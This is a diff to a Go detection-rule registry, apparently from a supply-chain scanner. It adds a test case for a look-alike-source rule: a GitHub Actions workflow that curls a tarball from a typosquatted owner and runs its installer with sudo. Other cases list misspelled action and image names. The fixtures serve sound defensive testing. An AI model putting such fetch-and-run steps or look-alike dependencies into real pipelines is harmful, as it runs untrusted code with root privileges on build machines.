@@ -1001,6 +1001,8 @@ var registry = []Rule{
 		}},
 	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known package, module, action, image, orb or hook repository",
 		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
+			// A well-known owner's name dressed as its download channel.
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo /tmp/l.tgz \"https://github.com/golangci-lint-releases/bin/releases/download/v2.1.0/lint.tgz\"\n          tar -xzf /tmp/l.tgz -C /tmp/l\n          sudo /tmp/l/install --prefix /usr/local", 7, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
 			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: docker/login-action@v3\n+  - uses: docker/login-actions@v3\n", 2, false},
